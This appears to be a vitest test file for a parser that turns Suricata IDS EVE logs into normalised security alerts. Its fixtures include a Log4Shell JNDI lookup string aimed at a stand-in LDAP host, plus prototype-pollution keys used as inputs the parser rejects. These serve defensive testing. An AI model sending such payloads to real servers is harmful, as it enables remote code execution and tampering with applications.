import { IdsAlertV1, IdsContextV1, idsRecordKey } from "@vigil/schema";
import { describe, expect, it } from "vitest";
import { NetworkSet } from "./network.ts";
import {
  extractCves,
  mapSeverity,
  normaliseSuricataTime,
  type ParseResult,
  parseSuricataEve,
} from "./suricata.ts";

const fixedNow = () => new Date("2024-01-17T10:00:00.000Z");

/** A Log4Shell attempt from the Internet against an internal web server, as Suricata 7 writes it. */
const log4shell = {
  timestamp: "2024-01-17T10:52:17.542011+0100",
  flow_id: 1_530_218_453_296_374,
  in_iface: "ens192",
  event_type: "alert",
  src_ip: "203.0.113.45",
  src_port: 51_234,
  dest_ip: "10.20.3.40",
  dest_port: 8080,
  proto: "TCP",
  community_id: "1:jyzqoI6B8pdQjfMfK9MqhHwbZn8=",
  app_proto: "http",
  host: "sensor-dmz-1",
  alert: {
    action: "allowed",
    gid: 1,
    signature_id: 2_034_647,
    rev: 2,
    signature: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
    category: "Attempted Administrator Privilege Gain",
    severity: 1,
    metadata: {
      attack_target: ["Server"],
      created_at: ["2021_12_10"],
      cve: ["CVE_2021_44228"],
      deployment: ["Perimeter", "Internal"],
      signature_severity: ["Major"],
      updated_at: ["2021_12_14"],
    },
  },
  http: {
    hostname: "portal.corp.example",
    url: `/?x=\${jndi:ldap://198.51.100.9:1389/a}`,
    http_method: "GET",
  },
  payload_printable: `GET /?x=\${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1`,
  stream: 0,
  flow: {
    pkts_toserver: 4,
    pkts_toclient: 3,
    bytes_toserver: 512,
    bytes_toclient: 380,
    start: "2024-01-17T10:52:17.401011+0100",
  },
};

function line(record: unknown): string {
  return JSON.stringify(record);
}

function withAlert(patch: Record<string, unknown>): string {
  return line({ ...log4shell, alert: { ...log4shell.alert, ...patch } });
}

function expectAlert(result: ParseResult): IdsAlertV1 {
  if (result.status !== "alert") throw new Error(`expected an alert, got ${JSON.stringify(result)}`);
  // Every alert the parser emits is publishable as is.
  return IdsAlertV1.parse(result.alert);
}

function expectInvalid(result: ParseResult, kind: string, reason: RegExp | string): void {
  expect(result.status).toBe("invalid");
  if (result.status !== "invalid") return;
  expect(result.kind).toBe(kind);
  if (typeof reason === "string") expect(result.reason).toContain(reason);
  else expect(result.reason).toMatch(reason);
}

describe("parseSuricataEve: alerts", () => {
  it("normalises a real-looking EVE alert into IdsAlertV1", () => {
    const alert = expectAlert(parseSuricataEve(line(log4shell), { now: fixedNow }));
    expect(alert).toMatchObject({
      schema: "vigil.ids.alert/v1",
      class_uid: 2004,
      type_uid: 200401,
      time: Date.parse("2024-01-17T09:52:17.542Z"),
      time_dt: "2024-01-17T10:52:17.542011+01:00",
      metadata: {
        version: "1.3.0",
        product: { name: "Suricata", vendor_name: "OISF" },
        log_name: "eve",
        original_time: "2024-01-17T10:52:17.542011+0100",
        processed_time: fixedNow().getTime(),
      },
      device: { hostname: "sensor-dmz-1", interface_name: "ens192" },
      src_endpoint: { ip: "203.0.113.45", port: 51_234 },
      dst_endpoint: { ip: "10.20.3.40", port: 8080 },
      asset_ip: "10.20.3.40",
      connection_info: {
        protocol_name: "tcp",
        direction: "Inbound",
        direction_id: 1,
        uid: "1530218453296374",
        community_uid: "1:jyzqoI6B8pdQjfMfK9MqhHwbZn8=",
      },
      app_protocol: "http",
      finding_info: {
        title: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
        analytic: {
          uid: "2034647",
          name: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
          type: "Rule",
          type_id: 1,
          category: "Attempted Administrator Privilege Gain",
          version: "2",
        },
        types: ["Attempted Administrator Privilege Gain"],
      },
      unmapped: { gid: 1, priority: 1 },
      action: "Allowed",
      action_id: 1,
      severity: "high",
      severity_id: 4,
      cves: ["CVE-2021-44228"],
      references: [],
      http_request: {
        http_method: "GET",
        url: { hostname: "portal.corp.example", url_string: `/?x=\${jndi:ldap://198.51.100.9:1389/a}` },
      },
      payload_printable: `GET /?x=\${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1`,
      raw_data: line(log4shell),
    });
    expect(alert.finding_info.uid).toBe(alert.id);
    expect(alert.rule_metadata.deployment).toEqual(["Perimeter", "Internal"]);
    expect(alert.id).toMatch(/^ids-[0-9a-f]{64}$/);
  });

  it("gives the same id to the same line read twice, and a different one to another event", () => {
    const first = expectAlert(parseSuricataEve(line(log4shell), { now: fixedNow }));
    const again = expectAlert(parseSuricataEve(Buffer.from(line(log4shell)), { now: () => new Date() }));
    expect(again.id).toBe(first.id);
    const otherFlow = expectAlert(parseSuricataEve(line({ ...log4shell, flow_id: 42 })));
    const otherRule = expectAlert(parseSuricataEve(withAlert({ signature_id: 2_034_648 })));
    const otherPort = expectAlert(parseSuricataEve(line({ ...log4shell, src_port: 51_235 })));
    expect(new Set([first.id, otherFlow.id, otherRule.id, otherPort.id]).size).toBe(4);
  });

  it("keeps 64-bit flow ids exact, which JSON numbers cannot hold", () => {
    const text = line(log4shell).replace('"flow_id":1530218453296374', '"flow_id":18446744073709551557');
    const twin = line(log4shell).replace('"flow_id":1530218453296374', '"flow_id":18446744073709551556');
    const alert = expectAlert(parseSuricataEve(text));
    expect(alert.connection_info.uid).toBe("18446744073709551557");
    expect(expectAlert(parseSuricataEve(twin)).id).not.toBe(alert.id);
  });

  it.each([
    ["203.0.113.45", "10.20.3.40", "Inbound", "10.20.3.40"],
    ["10.20.41.23", "198.51.100.20", "Outbound", "10.20.41.23"],
    ["10.20.41.23", "10.20.1.10", "Lateral", "10.20.1.10"],
    ["203.0.113.45", "198.51.100.20", "Other", "198.51.100.20"],
    ["2001:db8:ffff::1", "fd00:20::5", "Inbound", "fd00:20::5"],
  ])("classifies %s -> %s as %s with asset %s", (src, dst, direction, asset) => {
    const alert = expectAlert(parseSuricataEve(line({ ...log4shell, src_ip: src, dest_ip: dst })));
    expect(alert.connection_info.direction).toBe(direction);
    expect(alert.asset_ip).toBe(asset);
  });

  it("decides direction with the given home networks", () => {
    const homeNets = ["172.16.10.0/24"];
    const toDmz = expectAlert(parseSuricataEve(line({ ...log4shell, dest_ip: "172.16.10.5" }), { homeNets }));
    expect(toDmz).toMatchObject({ connection_info: { direction: "Inbound" }, asset_ip: "172.16.10.5" });
    // 10.20.3.40 is private but not in this deployment's home nets.
    const elsewhere = expectAlert(parseSuricataEve(line(log4shell), { homeNets: new NetworkSet(homeNets) }));
    expect(elsewhere.connection_info.direction).toBe("Other");
  });

  it("takes the sensor from the record's host, else from the options", () => {
    expect(expectAlert(parseSuricataEve(line(log4shell), { sensor: "cli" })).device.hostname).toBe(
      "sensor-dmz-1",
    );
    const { host: _host, ...withoutHost } = log4shell;
    expect(expectAlert(parseSuricataEve(line(withoutHost), { sensor: "cli" })).device.hostname).toBe("cli");
    expect(expectAlert(parseSuricataEve(line(withoutHost))).device.hostname).toBeUndefined();
  });

  it("accepts an ICMP alert without ports, and a blocked action from IPS mode", () => {
    const { src_port: _s, dest_port: _d, app_proto: _a, http: _h, ...icmp } = log4shell;
    const alert = expectAlert(
      parseSuricataEve(line({ ...icmp, proto: "ICMP", alert: { ...log4shell.alert, action: "blocked" } })),
    );
    expect(alert.src_endpoint).toEqual({ ip: "203.0.113.45" });
    expect(alert.connection_info.protocol_name).toBe("icmp");
    expect(alert).toMatchObject({ action: "Denied", action_id: 2 });
    expect(alert.http_request).toBeUndefined();
  });

  it("accepts the minimum Suricata writes for an alert", () => {
    const minimal = {
      timestamp: "2024-01-17T10:52:17.000000+0000",
      event_type: "alert",
      src_ip: "10.20.41.23",
      dest_ip: "10.20.1.10",
      proto: "UDP",
      alert: { signature_id: 1, signature: "TEST" },
    };
    const alert = expectAlert(parseSuricataEve(line(minimal)));
    expect(alert).toMatchObject({
      severity: "low",
      severity_id: 2,
      cves: [],
      rule_metadata: {},
      references: [],
      time: Date.parse("2024-01-17T10:52:17Z"),
      time_dt: "2024-01-17T10:52:17.000000+00:00",
    });
  });

  it("collects references from metadata and Suricata 8's alert.references, and CVEs from all of them", () => {
    const alert = expectAlert(
      parseSuricataEve(
        withAlert({
          signature: "Possible Zerologon Attempt",
          metadata: { reference: ["url,github.com/corelight/zerologon"], cve: ["cve-2020-1472"] },
          references: [
            "https://cve.mitre.org/cgi-bin/cvename.cgi?name=2014-0160",
            "https://github.com/corelight/zerologon",
          ],
        }),
      ),
    );
    expect(alert.references).toEqual([
      "url,github.com/corelight/zerologon",
      "https://cve.mitre.org/cgi-bin/cvename.cgi?name=2014-0160",
      "https://github.com/corelight/zerologon",
    ]);
    expect(alert.cves).toEqual(["CVE-2014-0160", "CVE-2020-1472"]);
  });
});

describe("severity mapping", () => {
  it.each([
    [1, [], "high"],
    [2, [], "medium"],
    [3, [], "low"],
    [4, [], "informational"],
    [255, [], "informational"],
    [undefined, [], "low"],
    [3, ["Major"], "high"],
    [4, ["Major"], "high"],
    [1, ["Major"], "high"],
    [3, ["Critical"], "critical"],
    [2, ["Minor"], "medium"],
    [2, ["Informational"], "medium"],
  ] as const)("priority %s with signature_severity %j -> %s", (priority, declared, expected) => {
    expect(mapSeverity(priority, declared)).toBe(expected);
  });
});

describe("CVE extraction", () => {
  it("normalises the spellings rule sets use and deduplicates", () => {
    expect(
      extractCves([
        "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)",
        "CVE_2021_44228",
        "cve-2021-45046",
        "cve,2017-0144",
        "2019_0708",
        "https://nvd.nist.gov/vuln/detail/CVE-2022-26134",
        "no cve here: CVE-21-1, CVE-2021-12345678",
      ]),
    ).toEqual(["CVE-2017-0144", "CVE-2019-0708", "CVE-2021-44228", "CVE-2021-45046", "CVE-2022-26134"]);
  });
});

describe("time normalisation", () => {
  it.each([
    ["2024-01-17T10:52:17.542011+0100", "2024-01-17T10:52:17.542011+01:00"],
    ["2024-01-17T10:52:17.542011-0530", "2024-01-17T10:52:17.542011-05:30"],
    ["2024-01-17T10:52:17+01:00", "2024-01-17T10:52:17+01:00"],
    ["2024-01-17T10:52:17.5Z", "2024-01-17T10:52:17.5Z"],
  ])("%s -> %s", (input, output) => {
    expect(normaliseSuricataTime(input)).toBe(output);
  });

  it.each(["2024-01-17 10:52:17", "2024-02-30T10:52:17+0100", "2024-01-17T25:00:00+0100", "1705485137", ""])(
    "refuses %j",
    (input) => {
      expect(normaliseSuricataTime(input)).toBeUndefined();
    },
  );
});

describe("parseSuricataEve: other event types", () => {
  it.each(["stats", "netflow", "smb", "dcerpc"])("counts %s as ignored", (eventType) => {
    const result = parseSuricataEve(
      line({ timestamp: "2024-01-17T10:52:17.542011+0100", event_type: eventType, flow_id: 1 }),
    );
    expect(result).toEqual({ status: "ignored", eventType });
  });

  it.each([
    ["flow", 4001, { flow: { pkts_toserver: 3, bytes_toserver: 180, state: "closed", reason: "timeout" } }],
    ["http", 4002, { http: { hostname: "www.corp.example", url: "/", http_method: "GET", status: 200 } }],
    ["dns", 4003, { dns: { type: "query", rrname: "cdn-update.x7k2.top", rrtype: "A" } }],
    ["tls", 4001, { tls: { sni: "cdn-update.x7k2.top", version: "TLS 1.2", ja3: { hash: "72a589da" } } }],
    ["ssh", 4001, { ssh: { client: { software_version: "OpenSSH_8.9" }, server: { proto_version: "2.0" } } }],
    [
      "fileinfo",
      4010,
      {
        fileinfo: { filename: "/update.exe", size: 73_802, sha256: "ab".repeat(32) },
        http: { hostname: "x" },
      },
    ],
  ])("keeps %s as a context event (class %i) with its own object as details", (eventType, classUid, own) => {
    const record = {
      timestamp: "2024-01-17T10:52:17.542011+0100",
      flow_id: 77,
      event_type: eventType,
      src_ip: "10.20.42.101",
      src_port: 50_123,
      dest_ip: "203.0.113.200",
      dest_port: 443,
      proto: "TCP",
      host: "sensor-core-1",
      ...own,
    };
    const result = parseSuricataEve(line(record), { now: fixedNow });
    if (result.status !== "context") throw new Error(`expected context, got ${JSON.stringify(result)}`);
    const event = IdsContextV1.parse(result.event);
    expect(event).toMatchObject({
      event_type: eventType,
      class_uid: classUid,
      asset_ip: "10.20.42.101",
      connection_info: { direction: "Outbound", protocol_name: "tcp", uid: "77" },
      device: { hostname: "sensor-core-1" },
      raw_data: line(record),
    });
    for (const [key, value] of Object.entries(own)) {
      if (key === eventType) expect(event.details).toMatchObject(value as Record<string, unknown>);
      else expect(event.details[key]).toEqual(value);
    }
    expect(parseSuricataEve(line(record), { context: false })).toEqual({ status: "ignored", eventType });
  });

  it("turns an anomaly into an informational alert named after its type and event", () => {
    const anomaly = {
      timestamp: "2024-03-12T09:35:40.198627+0100",
      flow_id: 3_555_285_633_912_673,
      event_type: "anomaly",
      src_ip: "10.20.41.23",
      src_port: 50_504,
      dest_ip: "10.20.1.10",
      dest_port: 445,
      proto: "TCP",
      app_proto: "smb",
      host: "sensor-core-1",
      anomaly: {
        app_proto: "smb",
        type: "applayer",
        event: "INVALID_NEGOTIATE_REQUEST",
        layer: "proto_parser",
      },
    };
    const alert = expectAlert(parseSuricataEve(line(anomaly)));
    expect(alert).toMatchObject({
      severity: "informational",
      severity_id: 1,
      asset_ip: "10.20.1.10",
      finding_info: {
        title: "Suricata applayer anomaly INVALID_NEGOTIATE_REQUEST (smb)",
        analytic: { uid: "anomaly:applayer:INVALID_NEGOTIATE_REQUEST", type: "Behavioral" },
      },
    });
    // A decoder anomaly has no flow: no endpoints, no asset; the sensor keys it.
    const decoder = expectAlert(
      parseSuricataEve(
        line({
          timestamp: "2024-03-12T09:35:40.198627+0100",
          event_type: "anomaly",
          host: "sensor-core-1",
          anomaly: { type: "decode", event: "decoder.ipv4.trunc_pkt" },
        }),
      ),
    );
    expect(decoder.src_endpoint).toBeUndefined();
    expect(decoder.asset_ip).toBeUndefined();
    expect(idsRecordKey(decoder)).toBe("sensor-core-1");
    expectInvalid(
      parseSuricataEve(line({ ...anomaly, anomaly: { type: "applayer" } })),
      "schema",
      "anomaly.event: expected string",
    );
  });

  it("does not call a record without a valid timestamp 'ignored'", () => {
    expectInvalid(
      parseSuricataEve(line({ event_type: "stats" })),
      "schema",
      "timestamp: expected string, got nothing (missing)",
    );
    expectInvalid(
      parseSuricataEve(line({ timestamp: "yesterday", event_type: "stats" })),
      "schema",
      "timestamp: expected a time like",
    );
    expectInvalid(
      parseSuricataEve(line({ timestamp: "2024-01-17T10:52:17+0100" })),
      "schema",
      "event_type: expected string",
    );
    expectInvalid(
      parseSuricataEve(line({ timestamp: "2024-01-17T10:52:17+0100", event_type: 7 })),
      "schema",
      "event_type: expected string, got number 7",
    );
  });
});

describe("parseSuricataEve: bad input never throws", () => {
  const full = line(log4shell);

  it.each([
    [
      "malformed JSON",
      '{"timestamp": "2024-01-17T10:52:17+0100", event_type: alert}',
      "json",
      "not valid JSON",
    ],
    ["a truncated line", full.slice(0, Math.floor(full.length / 2)), "json", "not valid JSON"],
    ["trailing garbage", `${full}}`, "json", "not valid JSON"],
    ["an array", "[1,2,3]", "not-object", "expected a JSON object (one EVE record), got array"],
    ["a number", "42", "not-object", "got number 42"],
    ["a string", '"alert"', "not-object", 'got string "alert"'],
    ["null", "null", "not-object", "got null"],
    ["true", "true", "not-object", "got boolean true"],
    ["whitespace only", "   ", "empty", "line is empty"],
  ])("%s", (_name, input, kind, reason) => {
    expectInvalid(parseSuricataEve(input), kind, reason);
  });

  it("refuses bytes that are not UTF-8", () => {
    const bytes = Buffer.concat([
      Buffer.from('{"timestamp":"'),
      Buffer.from([0xff, 0xfe]),
      Buffer.from('"}'),
    ]);
    expectInvalid(parseSuricataEve(bytes), "encoding", "not valid UTF-8");
  });

  it.each([
    [
      "signature_id as a string",
      withAlert({ signature_id: "2034647" }),
      'alert.signature_id: expected number, got string "2034647"',
    ],
    [
      "signature_id as a fraction",
      withAlert({ signature_id: 1.5 }),
      "alert.signature_id: expected an integer, got number 1.5",
    ],
    [
      "negative signature_id",
      withAlert({ signature_id: -1 }),
      "alert.signature_id: expected at least 0, got -1",
    ],
    [
      "src_port as a string",
      line({ ...log4shell, src_port: "51234" }),
      'src_port: expected number, got string "51234"',
    ],
    [
      "port out of range",
      line({ ...log4shell, dest_port: 70_000 }),
      "dest_port: expected at most 65535, got 70000",
    ],
    [
      "missing alert",
      line({ ...log4shell, alert: undefined }),
      "alert: expected object, got nothing (missing)",
    ],
    [
      "alert as a string",
      line({ ...log4shell, alert: "ET EXPLOIT" }),
      'alert: expected object, got string "ET EXPLOIT"',
    ],
    [
      "missing signature",
      withAlert({ signature: undefined }),
      "alert.signature: expected string, got nothing (missing)",
    ],
    [
      "unknown action",
      withAlert({ action: "drop" }),
      'alert.action: expected "allowed" or "blocked", got string "drop"',
    ],
    [
      "metadata values not lists",
      withAlert({ metadata: { cve: "CVE_2021_44228" } }),
      "alert.metadata.cve: expected array",
    ],
    [
      "metadata not an object",
      withAlert({ metadata: ["cve"] }),
      "alert.metadata: expected record, got array",
    ],
    [
      "severity as a string",
      withAlert({ severity: "high" }),
      'alert.severity: expected number, got string "high"',
    ],
    [
      "flow_id as an object",
      line({ ...log4shell, flow_id: { id: 1 } }),
      "flow_id: expected an unsigned integer, got object",
    ],
    [
      "proto as a boolean",
      line({ ...log4shell, proto: true }),
      "proto: expected a protocol name or number, got boolean true",
    ],
    [
      "http not an object",
      line({ ...log4shell, http: "GET /" }),
      'http: expected object, got string "GET /"',
    ],
  ])("wrong field type: %s", (_name, input, reason) => {
    expectInvalid(parseSuricataEve(input), "schema", reason);
  });

  it.each([
    ["10.20.3.400", "dest_ip: expected an IP address"],
    ["10.20.3", "dest_ip: expected an IP address"],
    ["fe80::1%eth0", "dest_ip: expected an IP address"],
    ["2001:db8:::1", "dest_ip: expected an IP address"],
    ["corp.example", "dest_ip: expected an IP address"],
    ["", "dest_ip: expected an IP address"],
  ])("invalid IP %j", (ip, reason) => {
    expectInvalid(parseSuricataEve(line({ ...log4shell, dest_ip: ip })), "schema", reason);
  });

  it("names a non-string IP's type", () => {
    expectInvalid(
      parseSuricataEve(line({ ...log4shell, src_ip: 167_772_161 })),
      "schema",
      "src_ip: expected an IP address, got number 167772161",
    );
  });

  it.each([
    "2024-01-17 10:52:17.542011+0100",
    "2024-13-17T10:52:17.542011+0100",
    "2024-02-30T10:52:17.542011+0100",
    "2024-01-17T10:52:17.542011",
    "2024-01-17T10:52:17.542011+01",
    "17/01/2024 10:52:17",
  ])("bad timestamp %j", (timestamp) => {
    expectInvalid(
      parseSuricataEve(line({ ...log4shell, timestamp })),
      "schema",
      `timestamp: expected a time like 2024-01-17T10:52:17.542011+0100, got ${JSON.stringify(timestamp)}`,
    );
  });

  it("refuses a timestamp that is a number", () => {
    expectInvalid(
      parseSuricataEve(line({ ...log4shell, timestamp: 1_705_485_137 })),
      "schema",
      "timestamp: expected string, got number 1705485137",
    );
  });

  it("refuses a very long signature message, and says how long it was", () => {
    expectInvalid(
      parseSuricataEve(withAlert({ signature: "A".repeat(100_000) })),
      "schema",
      "alert.signature: too long: 100000 characters, at most 1024",
    );
  });

  it("refuses control characters in names, showing them escaped", () => {
    const result = parseSuricataEve(withAlert({ signature: "ET EXPLOIT\u001b[31m red\u0000" }));
    expectInvalid(result, "schema", "alert.signature: contains control characters");
    expectInvalid(
      parseSuricataEve(line({ ...log4shell, host: "sensor\nforged log line" })),
      "schema",
      "host: contains control characters",
    );
  });

  it("cuts over-long evidence instead of losing the alert", () => {
    const alert = expectAlert(
      parseSuricataEve(line({ ...log4shell, payload_printable: "x".repeat(50_000) })),
    );
    expect(alert.payload_printable?.length).toBeLessThan(16_500);
    expect(alert.payload_printable).toContain("[truncated 33616 characters]");
  });

  it.each([
    [
      "alert.metadata",
      withAlert({ metadata: JSON.parse('{"__proto__": {"polluted": ["yes"]}, "tag": ["x"]}') }),
    ],
    ["the record", line(log4shell).replace('{"timestamp"', '{"__proto__":{"polluted":"yes"},"timestamp"')],
    ["http", line(log4shell).replace('"http":{', '"http":{"constructor":{"prototype":{"polluted":"yes"}},')],
  ])("refuses __proto__-style keys in %s without polluting prototypes", (where, input) => {
    const result = parseSuricataEve(input);
    expectInvalid(result, "schema", /(__proto__|constructor): key not allowed in an EVE record/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty("polluted");
    expect(where).toBeTruthy();
  });

  it("does not mistake a payload that mentions __proto__ for a hostile key", () => {
    const alert = expectAlert(
      parseSuricataEve(line({ ...log4shell, payload_printable: 'POST {"__proto__":{"isAdmin":true}}' })),
    );
    expect(alert.payload_printable).toContain("__proto__");
    expect(Object.getPrototypeOf(alert.metadata)).toBe(Object.prototype);
  });

  it("reports several problems of one record together, bounded", () => {
    const result = parseSuricataEve(
      line({
        timestamp: "x",
        event_type: "alert",
        src_ip: 1,
        dest_ip: 2,
        proto: [],
        alert: { signature_id: "a", signature: 3 },
      }),
    );
    expectInvalid(result, "schema", /^timestamp: .*; src_ip: .*; dest_ip: .*; and \d+ more$/);
  });
});

describe("an empty protocol (found by the fuzz test)", () => {
  it("leaves connection_info.protocol_name out instead of emitting an invalid alert", () => {
    const alert = expectAlert(parseSuricataEve(line({ ...log4shell, proto: "" }), { now: fixedNow }));
    expect(IdsAlertV1.safeParse(alert).success).toBe(true);
    expect(alert.connection_info.protocol_name).toBeUndefined();
  });
});
